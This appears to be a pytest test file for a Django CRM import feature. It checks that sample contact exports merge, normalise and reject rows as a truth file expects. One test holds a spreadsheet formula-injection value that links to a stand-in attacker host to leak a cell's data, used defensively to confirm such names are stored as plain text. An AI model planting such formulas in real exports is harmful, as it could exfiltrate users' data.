"""The sample CRM exports import to exactly what truth.json says, in its order."""

import pytest
from django.db.models import Count

from customers.models import Customer, ImportJob, SourceRecord

from .conftest import TRUTH, import_sample

pytestmark = pytest.mark.django_db


def _snapshot() -> list[tuple]:
    customers = list(Customer.objects.order_by("pk").values_list())
    sources = list(SourceRecord.objects.order_by("pk").values_list())
    return customers + sources


def _import_all() -> dict[str, ImportJob]:
    return {name: import_sample(name) for name in TRUTH["order"]}


@pytest.mark.parametrize("batch_rows", [20000, 4])
def test_samples_in_order_give_the_truth(settings, batch_rows):
    settings.CUSTOMERS_IMPORT_BATCH_ROWS = batch_rows
    jobs = _import_all()

    for name, job in jobs.items():
        expected = TRUTH["files"][name]
        assert job.status == ImportJob.Status.SUCCEEDED, (name, job.error)
        assert job.rows_read == expected["data_rows"], name
        assert sorted(job.rejections.values_list("row", flat=True)) == sorted(
            expected["rejected_data_rows"]
        ), name
        assert job.rejected == len(expected["rejected_data_rows"])
    after = TRUTH["after_all"]
    assert Customer.objects.count() == after["customers"]
    assert (
        Customer.objects.filter(email_status=Customer.EmailStatus.UNDELIVERABLE).count()
        == after["undeliverable_email"]
    )
    assert (
        Customer.objects.filter(marketing_consent=Customer.Consent.WITHDRAWN).count()
        == after["opted_out"]
    )
    merged = (
        Customer.objects.annotate(systems=Count("sources__source", distinct=True))
        .filter(systems__gt=1)
        .count()
    )
    assert merged == after["merged_across_files"]
    assert sum(job.merged for job in jobs.values()) == after["merged_across_files"]


def test_reimporting_any_sample_changes_nothing_and_says_so():
    _import_all()
    before = _snapshot()

    for name in TRUTH["order"]:
        job = import_sample(name)
        assert job.status == ImportJob.Status.SUCCEEDED
        assert (job.created, job.updated, job.merged) == (0, 0, 0), name
        assert job.changed_nothing, name

    assert _snapshot() == before


def test_rejected_rows_say_line_field_and_reason():
    job = import_sample("shop_kunden.csv")

    rejections = list(job.rejections.order_by("row").values_list("row", "line", "field", "reason"))
    reason = "neither an external id nor an email"
    assert rejections == [(1, 2, "external_id", reason), (15, 16, "external_id", reason)]


def test_same_person_in_two_crms_is_one_customer_with_two_source_records():
    import_sample("salesforce_contacts.csv")
    import_sample("hubspot_contacts.csv")

    customer = Customer.objects.get(email_normalized="bayram.roht2@example.com")
    assert set(customer.sources.values_list("source", flat=True)) == {"salesforce", "hubspot"}


def test_email_differing_only_in_case_and_spaces_matches():
    import_sample("salesforce_contacts.csv")
    nedda = Customer.objects.get(email_normalized="nedda.broschi24@example.org")
    assert nedda.email == "nedda.broschi24@example.org"
    kelsey = Customer.objects.get(email_normalized="kelsey.robles25@mail.example.net")
    assert kelsey.email == "KELSEY.ROBLES25@MAIL.EXAMPLE.NET"


def test_malformed_email_is_kept_and_marked_undeliverable():
    import_sample("salesforce_contacts.csv")
    gillian = Customer.objects.get(sources__external_id="003Jy8c1rihtYlKNxH")
    assert gillian.email == "gillian.osborne0 at example.org"
    assert gillian.email_status == Customer.EmailStatus.UNDELIVERABLE
    assert gillian.street == "Flat 20\nKerr Rapids"


def test_formula_looking_names_are_stored_as_the_text_they_are():
    import_sample("salesforce_contacts.csv")
    import_sample("zoho_contacts.csv")
    import_sample("dynamics_contacts.xlsx")

    assert Customer.objects.get(email_normalized="paz.lvaro27@example.com").last_name == (
        '=HYPERLINK("http://evil.example/?"&A1,"x")'
    )
    assert Customer.objects.get(email_normalized="anouk.delattre79@example.org").last_name == (
        "@SUM(1+1)"
    )


def test_country_names_become_iso_codes_and_phones_e164():
    import_sample("hubspot_contacts.csv")
    nicolas = Customer.objects.get(email_normalized="nicolas.thierry33@example.org")
    assert nicolas.country == "FR"
    assert nicolas.phone == "+33666141169"
    assert nicolas.language == "fr"
    assert nicolas.marketing_consent == Customer.Consent.GRANTED
    assert nicolas.consent_source == "hubspot"


def test_windows_1252_semicolon_file_reads_umlauts():
    job = import_sample("shop_kunden.csv")
    assert job.status == ImportJob.Status.SUCCEEDED
    kerstin = Customer.objects.get(email_normalized="kerstin.haering68@example.com")
    assert kerstin.city == "Büsingen am Hochrhein"
    assert kerstin.marketing_consent == Customer.Consent.GRANTED


def test_forensic_list_emails_match_customers_case_insensitively():
    _import_all()
    text = (import_sample.__globals__["SAMPLES"] / "affected_accounts.csv").read_text().splitlines()
    emails = [line.split(",")[0].strip().casefold() for line in text[1:] if line.strip()]
    matched = Customer.objects.filter(email_normalized__in=emails).count()
    expected = TRUTH["affected_accounts.csv"]
    assert len(emails) == expected["rows"]
    assert matched == expected["matched"]
